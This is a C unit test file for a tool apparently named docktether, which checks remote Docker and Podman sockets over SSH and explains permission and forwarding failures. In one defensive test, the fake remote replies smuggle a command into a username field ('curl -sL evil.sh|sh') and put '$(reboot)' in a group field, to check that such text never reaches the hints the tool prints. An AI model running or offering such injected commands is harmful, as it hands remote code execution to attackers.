/* What a remote shell is asked and says: sockets, and how commands end. */
#include "base/mem.h"
#include "engine/remote-socket.h"
#include "ssh/exit-status.h"
#include "store/profile.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cmocka.h>

static struct profile *profile_at(const char *socket)
{
    struct profile *p = profile_new("prod");

    mem_replace(&p->host, "prod.example.com");
    mem_replace(&p->user, "deploy");
    mem_replace(&p->socket, socket);
    return p;
}

/* What a shell of this machine answers. */
static void ask(const struct profile *p, struct remote_socket_answer *a)
{
    char reply[4096];
    char *question = remote_socket_question(p);
    FILE *out = popen(question, "r");

    assert_non_null(out);
    size_t n = fread(reply, 1, sizeof reply - 1, out);
    reply[n] = '\0';
    assert_int_equal(pclose(out), 0);
    remote_socket_parse(reply, a);
    free(question);
}

static void assert_state(const char *path, enum remote_socket_state state)
{
    struct profile *p = profile_at(path);
    struct remote_socket_answer a;

    ask(p, &a);
    assert_true(a.answered);
    assert_int_equal(a.count, 1);
    assert_string_equal(a.places[0].path, path);
    assert_int_equal(a.places[0].state, state);
    profile_free(p);
}

static void a_shell_knows_what_is_there(void **state)
{
    char dir[] = "/tmp/dt it's XXXXXX", path[80];
    struct sockaddr_un sa = { .sun_family = AF_UNIX };

    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(path, sizeof path, "%s/d.sock", dir);
    assert_state(path, REMOTE_ABSENT);
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    assert_int_equal(bind(fd, (const struct sockaddr *)&sa, sizeof sa), 0);
    assert_state(path, REMOTE_USABLE);
    assert_state(dir, REMOTE_NO_SOCKET);
    close(fd);
    unlink(path);
    rmdir(dir);
}

/* By the kernel's list, and by whatever here can connect. */
static enum remote_socket_listening ask_listening(const char *path)
{
    char reply[256];
    char *question = remote_listening_question(path);
    FILE *out = popen(question, "r");

    assert_non_null(out);
    reply[fread(reply, 1, sizeof reply - 1, out)] = '\0';
    assert_int_equal(pclose(out), 0);
    free(question);
    return remote_socket_parse_listening(reply);
}

static void a_shell_knows_whether_somebody_listens(void **state)
{
    char dir[] = "/tmp/docktether test-XXXXXX", path[64], link[64];
    struct sockaddr_un sa = { .sun_family = AF_UNIX };

    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(path, sizeof path, "%s/d.sock", dir);
    snprintf(link, sizeof link, "%s/link.sock", dir);
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    assert_int_equal(bind(fd, (const struct sockaddr *)&sa, sizeof sa), 0);
    assert_int_equal(symlink(path, link), 0);
    /* Where nothing can connect nothing is known. */
    assert_int_not_equal(ask_listening(path), REMOTE_LISTENING_YES);
    assert_int_equal(listen(fd, 1), 0);
    assert_int_equal(ask_listening(path), REMOTE_LISTENING_YES);
    assert_int_equal(ask_listening(link), REMOTE_LISTENING_YES);
    close(fd);
    assert_int_not_equal(ask_listening(path), REMOTE_LISTENING_YES);
    unlink(link);
    unlink(path);
    rmdir(dir);
    assert_int_equal(remote_socket_parse_listening("motd\ndocktether listens no\n"), REMOTE_LISTENING_NO);
    assert_int_equal(remote_socket_parse_listening("docktether listens \n"), REMOTE_LISTENING_UNKNOWN);
    assert_int_equal(remote_socket_parse_listening(""), REMOTE_LISTENING_UNKNOWN);
}

static void all_the_known_places_are_asked_for(void **state)
{
    struct profile *p = profile_at(PROFILE_AUTO_SOCKET);
    struct remote_socket_answer a;

    (void)state;
    setenv("HOME", "/nowhere", 1);
    setenv("DOCKER_HOST", "unix:///nowhere/docker.sock", 1);
    setenv("XDG_RUNTIME_DIR", "/nowhere/run", 1);
    ask(p, &a);
    assert_int_equal(a.count, REMOTE_PLACES_MAX);
    assert_string_equal(a.places[0].path, "/nowhere/docker.sock");
    assert_string_equal(a.places[1].path, PROFILE_DEFAULT_SOCKET);
    assert_string_equal(a.places[2].path, "/nowhere/run/docker.sock");
    assert_non_null(strstr(a.places[REMOTE_PLACES_MAX - 1].path, "/podman/podman.sock"));
    setenv("DOCKER_HOST", "ssh://elsewhere", 1);
    unsetenv("XDG_RUNTIME_DIR");
    ask(p, &a);
    assert_string_equal(a.places[0].path, PROFILE_DEFAULT_SOCKET);
    unsetenv("DOCKER_HOST");
    profile_free(p);
}

static void what_others_print_is_passed_over(void **state)
{
    struct remote_socket_answer a;

    (void)state;
    remote_socket_parse("Welcome\r\ndocktether\ndocktether usable\ndocktether usable relative\n"
                        "docktether mode srw------- 1 a b\nno docktether usable /x\n",
                        &a);
    assert_false(a.answered);
    assert_int_equal(a.count, 0);
    remote_socket_parse("docktether usable /a\033[2J\ndocktether usable /b c", &a);
    assert_int_equal(a.count, 1);
    assert_string_equal(a.places[0].path, "/b c");
}

static void assert_explains(const char *reply, const char *msg, const char *hint)
{
    struct profile *p = profile_at("/run/d.sock");
    struct err e = ERR_INIT;
    struct remote_socket_answer a;

    remote_socket_parse(reply, &a);
    assert_true(a.answered);
    remote_socket_explain(&a, p, "no idea", &e);
    assert_int_equal(e.code, ERR_SOCKET);
    if (strstr(e.msg, msg) == NULL || strstr(e.hint, hint) == NULL)
        fail_msg("got \"%s\" and \"%s\"", e.msg, e.hint);
    profile_free(p);
}

static void who_is_not_permitted_is_told_what_is_missing(void **state)
{
    (void)state;
    assert_explains(
        "docktether user deploy\ndocktether groups deploy docker2\ndocktether denied /run/d.sock\n"
        "docktether at /run/d.sock\n"
        "docktether mode srw-rw---- 1 root docker 0 Oct 1 10:00 /run/d.sock\n",
        "/run/d.sock on prod.example.com is root:docker 0660: deploy is not in group docker",
        "sudo usermod -aG docker deploy, then docktether up prod");
    assert_explains("docktether groups deploy docker\ndocktether denied /run/d.sock\n"
                    "docktether mode srw-rw----+ 1 root docker 0\n",
                    "0660: deploy may not use it", "dial-command");
    assert_explains("docktether denied /run/d.sock\ndocktether mode srw-rw---- 1 root root 0\n",
                    "deploy is not in group root", "dial-command=sudo -n docker");
    assert_explains("docktether denied /run/d.sock\n", "deploy may not use /run/d.sock", "dial-command");
    assert_explains("docktether closed /run/podman/podman.sock\ndocktether at /run/podman\n"
                    "docktether mode drwx------ 2 root root 60 Oct 1 10:00 /run/podman\n",
                    "/run/podman is root:root 0700, and deploy may not enter it", "systemctl --user");
    assert_explains("docktether absent /run/d.sock\n", "/run/d.sock does not exist", "socket=auto");
    assert_explains("docktether other /run/d.sock\n", "is no socket", "socket=auto");
    assert_explains("docktether usable /run/d.sock\n", "is there and cannot be reached: no idea",
                    "AllowStreamLocalForwarding");
    /* The place that comes nearest says most. */
    assert_explains(
        "docktether absent /a\ndocktether denied /b\ndocktether usable /c\ndocktether absent /d\n", "/c",
        "AllowStreamLocalForwarding");
}

static void explain(const char *reply, const char *known, struct err *e)
{
    struct profile *p = profile_at("/run/d.sock");
    struct remote_socket_answer a;

    *e = (struct err)ERR_INIT;
    remote_socket_parse(reply, &a);
    remote_socket_explain(&a, p, known, e);
    profile_free(p);
}

/* A start file there can print what it likes, and people paste hints. */
static void a_hint_holds_no_word_of_the_remote_shell_that_is_more_than_a_name(void **state)
{
    struct err e;

    (void)state;
    explain("docktether user x;curl -sL evil.sh|sh\ndocktether denied /run/d.sock\n"
            "docktether mode srw-rw---- 1 root docker 0\n",
            "", &e);
    assert_null(strstr(e.hint, "curl"));
    assert_string_equal(e.fix, "");
    assert_non_null(strstr(e.hint, "group"));
    explain("docktether user deploy\ndocktether denied /run/d.sock\n"
            "docktether mode srw-rw---- 1 root $(reboot) 0\n",
            "", &e);
    assert_null(strstr(e.hint, "reboot"));
    assert_string_equal(e.fix, "");
}

static void each_cause_has_its_own_remedy(void **state)
{
    struct err e;

    (void)state;
    explain("docktether usable /run/d.sock\n", "sshd says \"open failed\"", &e);
    assert_non_null(strstr(e.hint, "AllowTcpForwarding"));
    assert_non_null(strstr(e.hint, "DisableForwarding"));
    assert_non_null(strstr(e.hint, "restrict"));
    assert_null(strstr(e.hint, "PATH"));
    explain("docktether usable /run/d.sock\n", "docker says: sh: docker: not found (exit status 127)", &e);
    assert_non_null(strstr(e.hint, "PATH"));
    explain("docktether usable /run/d.sock\n", "docker says: Cannot connect to the Docker daemon at unix:///",
            &e);
    assert_string_equal(e.fix, "sudo systemctl start docker");
    assert_null(strstr(e.hint, "Forwarding"));
}

static void without_an_answer_the_likely_places_are_tried(void **state)
{
    struct profile *p = profile_at("/run/d.sock");
    struct remote_socket_answer a;

    (void)state;
    remote_socket_guess(p, &a);
    assert_false(a.answered);
    assert_int_equal(a.count, 1);
    assert_string_equal(a.places[0].path, "/run/d.sock");
    mem_replace(&p->socket, PROFILE_AUTO_SOCKET);
    remote_socket_guess(p, &a);
    assert_int_equal(a.count, 2);
    assert_int_equal(a.places[1].state, REMOTE_UNKNOWN);
    profile_free(p);
}

static void an_ending_is_words_and_a_number(void **state)
{
    struct exit_status end = ENDING_INIT;
    char text[64], flood[3000];

    (void)state;
    assert_false(exit_status_known(&end) || exit_status_failed(&end));
    exit_status_describe(&end, text, sizeof text);
    assert_string_equal(text, "(no exit status)");
    exit_status_hear(&end, "two\nlines\r\n", 11);
    end.status = 0;
    assert_true(exit_status_known(&end) && !exit_status_failed(&end));
    end.status = 23;
    assert_true(exit_status_failed(&end));
    exit_status_describe(&end, text, sizeof text);
    assert_string_equal(text, "two lines (exit status 23)");
    strcpy(end.signal, "KILL");
    /* However much it says, how it ended is not cut off. */
    memset(flood, 'x', sizeof flood);
    exit_status_hear(&end, flood, sizeof flood);
    exit_status_describe(&end, text, sizeof text);
    assert_non_null(strstr(text, "x (signal KILL)"));
    assert_true(end.len < sizeof flood);
    exit_status_clear(&end);
    assert_false(exit_status_known(&end));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_shell_knows_what_is_there),
        cmocka_unit_test(a_shell_knows_whether_somebody_listens),
        cmocka_unit_test(all_the_known_places_are_asked_for),
        cmocka_unit_test(what_others_print_is_passed_over),
        cmocka_unit_test(who_is_not_permitted_is_told_what_is_missing),
        cmocka_unit_test(a_hint_holds_no_word_of_the_remote_shell_that_is_more_than_a_name),
        cmocka_unit_test(each_cause_has_its_own_remedy),
        cmocka_unit_test(without_an_answer_the_likely_places_are_tried),
        cmocka_unit_test(an_ending_is_words_and_a_number),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
